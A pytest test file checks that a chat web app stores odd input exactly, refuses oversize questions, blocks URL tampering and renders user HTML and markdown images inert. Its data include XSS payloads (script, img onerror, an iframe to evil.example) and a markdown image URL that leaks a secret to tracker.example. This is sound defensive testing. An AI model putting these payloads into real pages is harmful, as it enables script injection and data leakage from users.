"""Bad input: each gets a clear message or exact storage; nothing is lost; no exception.
(Also covered elsewhere: empty/whitespace questions, tampered cursors, foreign and malformed session ids,
a spoofed identity header without the proxy secret: see test_store, test_app.)"""

import pytest

from lib.storage.bodies import DEFAULT_MAX_QUESTION_BYTES
from tests.pages import DEV, new_browser, send, services

pytestmark = pytest.mark.usefixtures("app_env")

TRICKY = {
    "one character": "?",
    "NUL and control characters": "a\x00b\x01c\x7f\td\re\x1b[31m",
    "emoji, RTL and combining marks": "👋🏽 שלום עליכם مرحبا e\u0301 Z\u0351\u0352 🇺🇳 \u200d",
    "backslashes and escapes": "C:\\temp\\new \\ud800 \\n",
}


def round_trip(question):
    at = send(new_browser(), question)
    store = services().store
    session_id = store.list_sessions(DEV).items[0].session_id
    return at, store.open_session(DEV, session_id).messages[0]


class TestStoredExactly:
    @pytest.mark.parametrize("name", TRICKY)
    def test_tricky_text_round_trips_byte_for_byte(self, name):
        at, stored = round_trip(TRICKY[name])
        assert stored.input_body.encode("utf-8") == TRICKY[name].encode("utf-8")
        assert stored.status == "done" and not at.exception

    def test_a_question_at_the_limit_is_stored_whole(self):
        text = "u" * (DEFAULT_MAX_QUESTION_BYTES - 1) + "v"  # exactly the limit: longer than any item may be
        _, shown = round_trip(text)
        assert shown.input_body == text[: len(shown.input_body)] and len(shown.input_body) < len(text)  # a preview
        (whole,) = services().store.all_messages(DEV, shown.session_id)  # export reads the body from its object
        assert whole.input_body == text


class TestRefusedClearly:
    @pytest.mark.parametrize("size", [DEFAULT_MAX_QUESTION_BYTES + 1, 10 * 1024 * 1024])
    def test_oversize_questions_are_refused_with_the_limit_before_any_request_and_kept(self, size):
        at = new_browser()
        meter = services().database.meter
        before = len(meter.records())
        text = "o" * size
        send(at, text, wait=False)  # the refusal is on this run's page (nothing is generating to wait for)
        assert "over the limit of 2,097,152 bytes (2,048 KB) per question" in at.error[0].value
        assert at.text_area[0].value == text
        assert meter.records()[before:] == [] and services().store.list_sessions(DEV).items == []


class TestRenderedInert:
    @pytest.mark.parametrize(
        "payload",
        ["<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "<iframe src='https://evil.example'></iframe>"],
    )
    def test_html_is_never_rendered_as_html(self, payload):
        at, _ = round_trip(payload)
        user_markdown = at.chat_message[0].markdown[0]
        assert user_markdown.value == payload and user_markdown.proto.allow_html is False
        assert all(not m.proto.allow_html for message in at.chat_message for m in message.markdown)

    def test_a_markdown_image_becomes_a_link_so_nothing_is_fetched_on_display(self):
        at, stored = round_trip("look ![x](https://tracker.example/pixel.png?leak=secret)")
        assert stored.input_body.startswith("look ![x]")  # stored as typed
        shown = at.chat_message[0].markdown[0].value
        assert "![" not in shown  # no image syntax reaches the renderer: nothing is fetched
        assert "[x](https://tracker.example/pixel.png?leak=secret)" in shown  # the link stays, for a click


class TestUrlTampering:
    @pytest.mark.parametrize(
        "query",
        [
            {"session": ""},
            {"session": "01JC3Q8Z4F6M2V9K7T5R1N0B8D", "user": "someone@example.com"},
            {"session": "%00"},
            {"session": "x" * 5000},
        ],
    )
    def test_odd_query_parameters_show_nothing_of_anyone_else_and_raise_nothing(self, query):
        store = services().store
        store.create_session("victim@example.com", "victim's chat", system_prompt_id="default-v1")
        at = new_browser(**query)
        assert not at.exception
        assert "victim" not in str([m.value for m in at.markdown]) + str([b.label for b in at.button])
